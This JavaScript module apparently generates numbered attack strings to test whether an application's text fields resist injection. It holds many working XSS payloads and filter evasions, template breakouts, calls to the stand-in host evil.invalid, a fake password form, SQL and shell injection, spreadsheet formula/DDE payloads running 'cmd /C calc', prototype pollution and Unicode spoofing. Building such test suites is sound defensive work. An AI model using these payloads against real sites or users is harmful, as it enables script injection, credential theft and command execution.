// Texts as an attacker writes them: what to run, in everything that has ever run it, hidden in every way.
//
// Each names its number, so that what runs says which text it was. `node payloads.mjs` prints them as JSON.

import { pathToFileURL } from "node:url";

/** Characters of the shortest text field, which all of them fit (`SHORT_TEXT_CHARS_MAX` of core). */
export const CHARS_MAX = 200;

const EVIL = "//evil.invalid";

/** What an attacker would run first: each is seen by another watch. */
const deeds = [
  (n) => `__ran=${n}`,
  (n) => `alert(${n})`,
  (n) => `fetch('${EVIL}/${n}')`,
  (n) => `new Image().src='${EVIL}/${n}'`,
];

const codes = (text) => [...text].map((c) => c.codePointAt(0));
const decimal = (text) => codes(text).map((c) => `&#${c};`).join("");
const hexadecimal = (text) => codes(text).map((c) => `&#x${c.toString(16)}`).join(";") + ";";
const escaped = (text) => codes(text).map((c) => `\\x${c.toString(16).padStart(2, "0")}`).join("");
const short = (deed) => deed.replace("new Image().src=", "location=");

/** Markup that runs `js` when it becomes a page's. */
const markup = [
  (js) => `<script>${js}</script>`,
  (js) => `<SCRIPT>${js}</SCRIPT>`,
  (js) => `<script/x>${js}</script>`,
  (js) => `</textarea><script>${js}</script>`,
  (js) => `</title><script>${js}</script>`,
  (js) => `</style><script>${js}</script>`,
  (js) => `--><script>${js}</script>`,
  (js) => `]]><script>${js}</script>`,
  (js) => `<scr<script>ipt>${js}</scr</script>ipt>`,
  (js) => `<img src=x onerror="${js}">`,
  (js) => `<img/src=x/onerror=${js}>`,
  (js) => `<IMG SRC=x ONERROR='${js.replaceAll("'", '"')}'>`,
  (js) => `<img src=x onerror="${decimal(js.slice(0, 9))}${js.slice(9)}">`,
  (js) => `<img src=x onerror="eval('${escaped(js.slice(0, 9))}${js.slice(9).replaceAll("'", "\\x27")}')">`,
  (js) => `<svg onload="${js}">`,
  (js) => `<svg/onload=${js}>`,
  (js) => `<svg><script>${js}</script></svg>`,
  (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  (js) => `<svg><a href="javascript:${js}"><text y=20>点</text></a></svg>`,
  (js) => `<math><mtext><img src=x onerror="${js}"></mtext></math>`,
  (js) => `<math href="javascript:${js}">点</math>`,
  (js) => `<body onload="${js}">`,
  (js) => `<body onpageshow="${js}">`,
  (js) => `<details open ontoggle="${js}">x</details>`,
  (js) => `<video><source onerror="${js}"></video>`,
  (js) => `<audio src=x onerror="${js}">`,
  (js) => `<video src=x onerror="${js}">`,
  (js) => `<input autofocus onfocus="${js}">`,
  (js) => `<select autofocus onfocus="${js}"><option>x</select>`,
  (js) => `<textarea autofocus onfocus="${js}"></textarea>`,
  (js) => `<a href="javascript:${js}">点这里</a>`,
  (js) => `<a href="java&#10;script:${js}">点这里</a>`,
  (js) => `<a href=" &#14; javascript:${js}">点这里</a>`,
  (js) => `<a href="data:text/html,<script>${js}</script>">点这里</a>`,
  (js) => `<iframe srcdoc="<script>parent.${short(js)}</script>"></iframe>`,
  (js) => `<iframe src="javascript:parent.${short(js)}"></iframe>`,
  (js) => `<object data="data:text/html,<script>${js}</script>"></object>`,
  (js) => `<embed src="javascript:${js}">`,
  (js) => `<form action="javascript:${js}"><button>点</button></form>`,
  (js) => `<form><button formaction="javascript:${js}">点</button></form>`,
  (js) => `<marquee onstart="${js}">x</marquee>`,
  (js) => `<div onmouseover="${js}" style="position:fixed;inset:0">x</div>`,
  (js) => `<div onclick="${js}">点</div>`,
  (js) => `<div tabindex=0 onfocusin="${js}" autofocus>x</div>`,
  (js) => `<style>@keyframes x{}</style><b style="animation:x 1s" onanimationstart="${js}">x</b>`,
  (js) => `<template><script>${js}</script></template>`,
  (js) => `<noscript><p title="</noscript><img src=x onerror='${js.replaceAll("'", "`")}'>">`,
  (js) => `<x contenteditable onblur="${js}">x</x>`,
];

/** Breaks out of where a text might stand: an attribute, a script, a template, a style. */
const breaks = [
  (js) => `"><img src=x onerror="${js}">`,
  (js) => `'><img src=x onerror='${js.replaceAll("'", "`")}'>`,
  (js) => `" autofocus onfocus="${js}" x="`,
  (js) => `' onmouseover='${js.replaceAll("'", "`")}' x='`,
  (js) => `\` onerror=${js} \``,
  (js) => `";${js};//`,
  (js) => `';${js};//`,
  (js) => `\${${js}}`,
  (js) => `\`;${js};//`,
  (js) => `{{${js}}}`,
  (js) => `{{constructor.constructor("${js}")()}}`,
  (js) => `{{_c.constructor("${js}")()}}`,
  (js) => `{{$el.ownerDocument.defaultView.eval("${js}")}}`,
  (js) => `{% raw %}${js}{% endraw %}`,
  (js) => `<%= ${js} %>`,
  (js) => `#{${js}}`,
  (js) => `[[${js}]]`,
  (js) => `<p v-html="'<img src=x onerror=${js.replaceAll("'", "`")}>'"></p>`,
  (js) => `<p :innerHTML="'<img src=x onerror=${js.replaceAll("'", "`")}>'"></p>`,
  (js) => `<p @click="${js}" v-on:mouseover="${js}">点</p>`,
  (js) => `<component :is="'script'">${js}</component>`,
  (js) => `javascript:${js}`,
  (js) => `JaVaScRiPt:${js}`,
  (js) => `javascript://%0a${js}`,
  (js) => `data:text/html,<script>${js}</script>`,
  (js) => `vbscript:${js}`,
  (js) => `[点这里](javascript:${js})`,
  (js) => `![x](x" onerror="${js})`,
  (js) => `[x]: javascript:${js}`,
  (js) => `<${"javascript"}:${js}>`,
  (js) => `@:{'${js.replaceAll("'", "`")}'}`,
];

/** Without anything to run: what loads, moves, covers or rewrites the page; what is only meant to be misread. */
const others = (n) => [
  `<link rel=stylesheet href=${EVIL}/${n}.css>`,
  `<style>@import '${EVIL}/${n}.css';</style>`,
  `<style>body{background:url(${EVIL}/${n})}</style>`,
  `<div style="background:url(${EVIL}/${n})">x</div>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/${n}">`,
  `<base href=${EVIL}/${n}/>`,
  `<iframe src=${EVIL}/${n}></iframe>`,
  `<img src=${EVIL}/${n}>`,
  `<img srcset=${EVIL}/${n}>`,
  `<video poster=${EVIL}/${n}></video>`,
  `<svg><image href=${EVIL}/${n} /></svg>`,
  `<svg><use href=${EVIL}/${n}#x /></svg>`,
  `<input type=image src=${EVIL}/${n}>`,
  `<form action=${EVIL}/${n}><input name=password><button>登录</button></form>`,
  `<a href=${EVIL}/${n} ping=${EVIL}/${n}>点这里</a>`,
  `<link rel=prefetch href=${EVIL}/${n}>`,
  `expression(alert(${n}))`,
  `x;background:url(${EVIL}/${n})`,
  `</p></div></div></main></body></html>${n}`,
  `<!--${n}`,
  `<plaintext>${n}`,
  `<dialog open>${n}</dialog>`,
  `<div id=app>${n}</div>`,
  `<form name=location>${n}</form>`,
  `__proto__${n}`,
  `{"__proto__":{"x":${n}}}`,
  `constructor.prototype.x=${n}`,
  `{n} {name} {0} @:app.title ${n} | ${n + 1}`,
  `%s %d %n \${${n}} $(reboot) \`reboot\` ${n}`,
  `'; DROP TABLE tickets; -- ${n}`,
  `\u202e${n}gpj.exe`,
  `\u202d\u2066${n}\u2069\u200f\u200e\u061c`,
  `${n}\u200b\u200c\u200d\u2060\ufeff`,
  `\u2028alert(${n})\u2029`,
  `＜script＞__ran=${n}＜/script＞`,
  `\u02c2script\u02c3__ran=${n}\u02c2/script\u02c3`,
  `&lt;script&gt;__ran=${n}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=__ran=${n}&amp;gt;`,
  `${decimal(`<b>${n}`)}`,
  `${hexadecimal(`<b>${n}`)}`,
  `%3Cscript%3E__ran=${n}%3C/script%3E`,
  `+ADw-script+AD4-__ran=${n}+ADw-/script+AD4-`,
  `\\u003cscript\\u003e__ran=${n}\\u003c/script\\u003e`,
  `Z\u0337\u0321\u0335\u0322${"\u0336".repeat(40)}${n}`,
  `${"\u{1f9d1}\u200d\u{1f527}".repeat(10)}${n}`,
  `=cmd|' /C calc'!A${n}`,
  `=HYPERLINK("http:${EVIL}/${n}","点")`,
  `+${n}+cmd|' /C calc'!A0`,
  `-${n}+cmd|' /C calc'!A0`,
  `@SUM(1,${n})*cmd|' /C calc'!A0`,
  `"=${n}+1`,
  `",=${n}+1,"`,
  `x;=${n}+1`,
  `x;"=${n}+1"`,
  `\uff1d${n}+1`,
  `\uff0b${n}+1`,
  `\uff20SUM(1,${n})`,
  `=WEBSERVICE("http:${EVIL}/${n}")`,
  `=IMPORTXML("http:${EVIL}/${n}","//a")`,
  `=DDE("cmd";"/C calc";"${n}")`,
  `_x003D_${n}+1`,
  ` =${n}+1`,
  `\ufeff=${n}+1`,
  `'=${n}+1`,
];

/** All of them, in an order that never changes. */
export function payloads() {
  const made = [];
  for (const make of [...markup, ...breaks]) {
    // Three deeds each, in turn.
    for (let of = 0; of < 3; of += 1) made.push(make(deeds[made.length % deeds.length](made.length + 1)));
  }
  for (let at = 0; at < others(0).length; at += 1) made.push(others(made.length + 1)[at]);
  for (const [at, text] of made.entries()) {
    if ([...text].length > CHARS_MAX) throw new Error(`text ${at + 1} is too long: ${text}`);
  }
  return made;
}

/** With characters that no field takes: nothing of them may be stored. */
export function unstorable() {
  return ["\0<script>__ran=1</script>", "<scr\0ipt>", "java\u0001script:alert(1)", "\u001b[31mred", "a\u0008b", "\u007f", "\u0085x", "\r=1+1"];
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? "").href) console.log(JSON.stringify(payloads()));
